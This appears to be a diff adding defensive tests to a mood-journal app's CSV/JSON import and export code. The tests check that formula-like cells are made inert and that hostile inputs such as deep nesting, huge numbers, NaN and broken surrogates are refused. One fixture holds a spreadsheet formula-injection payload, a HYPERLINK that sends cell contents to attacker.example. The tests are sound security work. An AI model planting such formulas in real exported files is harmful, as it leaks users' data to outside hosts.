@@ -4,6 +4,7 @@ person's own mood names, and every bad row is reported with the row number a spr
 import csv
 import io
 import json
+import operator
 from dataclasses import replace
 from datetime import UTC, date, datetime, time, timedelta, timezone
 from zoneinfo import ZoneInfo
@@ -23,6 +24,7 @@ from crossroads.domain.journal_exchange import (
     entries_to_csv,
     entries_to_json,
     parse_mood_map,
+    read_json,
 )
 
 PARIS = ZoneInfo("Europe/Paris")
@@ -241,7 +243,10 @@ def test_an_exercise_keeps_its_answers_without_a_mood_but_an_entry_needs_one() -
 # Real offsets are whole minutes; Python 3.11 drops a fraction of a second from an offset it reads.
 offsets = st.integers(-23 * 60, 23 * 60).map(lambda minutes: timezone(timedelta(minutes=minutes)))
 own_words = st.text(st.characters(exclude_characters=";"), min_size=1, max_size=20)
-texts = st.text(max_size=60)
+# Some texts start as a spreadsheet formula would, or with the apostrophe that disarms one.
+texts = st.text(max_size=60) | st.builds(
+    operator.add, st.sampled_from(["=", "+", "-", "@", "'", "'="]), st.text(max_size=30)
+)
 
 
 @st.composite
@@ -286,10 +291,100 @@ def test_any_valid_history_round_trips_through_csv_and_json(history: list[Entry]
     from_csv = entries_from_csv(entries_to_csv(history))
     assert from_csv == history
     assert entries_from_json(json.loads(json.dumps(entries_to_json(history)))) == history
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_of(entries_to_csv(history)))
     # Aware times compare by instant; the offset the person wrote in is kept as well.
     assert [entry.at.utcoffset() for entry in from_csv] == [
         entry.at.utcoffset() for entry in history
     ]
+
+
+# Formulas in our CSV
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cells_of(text: str) -> list[str]:
+    return [cell for record in csv.reader(io.StringIO(text)) for cell in record]
+
+
+def test_formulas_are_written_inert_and_read_back_as_written() -> None:
+    attack = replace(
+        full_entry(),
+        emotions=("@sum(1+1)", "calm"),
+        what_happened='=HYPERLINK("https://attacker.example/?q="&A1,"Click for help")',
+        own_coping="+1 walk",
+        note="-2 cups of coffee",
+    )
+    quoted = replace(quick_entry(), note="'=already quoted", what_happened="'a quote first")
+
+    text = entries_to_csv([attack, quoted])
+
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_of(text))
+    assert "'=HYPERLINK(\"https://attacker.example/" in "".join(cells_of(text))
+    assert entries_from_csv(text) == [attack, quoted]
+
+
+def test_an_apostrophe_someone_typed_before_a_word_is_kept() -> None:
+    [entry] = entries_from_csv(our_csv(row(note="'tis the season")))
+    assert entry.note == "'tis the season"
+
+
+# Hostile files
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("[" * 5000 + "]" * 5000, "nested too deeply"),
+        ("[" * 17 + "]" * 17, "nested too deeply"),
+        ('[{"at": "2024-03-05T12:00:00+00:00", "mood": ' + "7" * 5000 + "}]", "20 digits"),
+        ('[{"mood": 1e400}]', "too long or too large"),
+        ('[{"mood": NaN}]', "NaN is not a number"),
+        ('[{"mood": -Infinity}]', "-Infinity is not a number"),
+        ('[{"note": "a cut emoji \\ud83d"}]', "half of a character"),
+        ('[{"note": "ok", "\\udfff": 1}]', "half of a character"),
+        ("[1, 2", "this is not JSON"),
+    ],
+)
+def test_hostile_json_is_refused_naming_the_file(text: str, problem: str) -> None:
+    with pytest.raises(InvalidInput, match=problem) as error:
+        read_json(text, "file")
+    assert error.value.field == "file"
+
+
+def test_a_whole_emoji_and_ordinary_numbers_are_read() -> None:
+    assert read_json('[{"note": "\\ud83d\\ude00", "mood": -7, "x": 2.5}]', "file") == [
+        {"note": "\N{GRINNING FACE}", "mood": -7, "x": 2.5}
+    ]
+
+
+@pytest.mark.parametrize(
+    ("cells", "problem"),
+    [
+        ({"mood": "7" * 5000}, "mood: write a number"),
+        ({"answers": "[" * 5000 + "]" * 5000}, "answers: lists and objects are nested too deeply"),
+        ({"answers": '{"thought": ' + "9" * 5000 + "}"}, "answers: a number is longer"),
+    ],
+)
+def test_hostile_cells_are_named_with_their_row(cells: dict[str, str], problem: str) -> None:
+    with pytest.raises(ImportProblems) as error:
+        entries_from_csv(our_csv(row(**cells)))
+    [(number, text)] = problems_of(error)
+    assert (number, text[: len(problem)]) == (2, problem)
+
+
+def test_more_rows_than_allowed_is_one_problem() -> None:
+    text = our_csv(row(), row(), row())
+    items = entries_to_json([quick_entry()] * 3)
+    days = daylio(*["2024-03-05,March 5,Tuesday,21:30,good,,,"] * 3)
+    for read in (
+        lambda: entries_from_csv(text, most=2),
+        lambda: entries_from_json(items, most=2),
+        lambda: entries_from_daylio(days, MOODS, PARIS, most=2),
+    ):
+        with pytest.raises(ImportProblems, match="up to 2 at a time"):
+            read()
+    assert len(entries_from_csv(text, most=3)) == 3
 
 
 # Daylio
@@ -419,11 +514,12 @@ def test_a_mood_map_is_read_from_name_number_pairs() -> None:
     assert parse_mood_map("rad=10, good=7, Meh = 5, bad=3, awful=1,") == MOODS
 
 
-@pytest.mark.parametrize("text", ["rad=11", "rad=-1", "good=7, awful=100"])
+@pytest.mark.parametrize("text", ["rad=11", "rad=-1", "good=7, awful=100", "rad=" + "9" * 5000])
 def test_a_mood_map_with_a_value_out_of_range_is_refused(text: str) -> None:
     with pytest.raises(InvalidInput, match="use numbers from 0 to 10") as error:
         parse_mood_map(text)
     assert error.value.field == "mood_map"
+    assert len(str(error.value)) < 100
 
 
 @pytest.mark.parametrize(
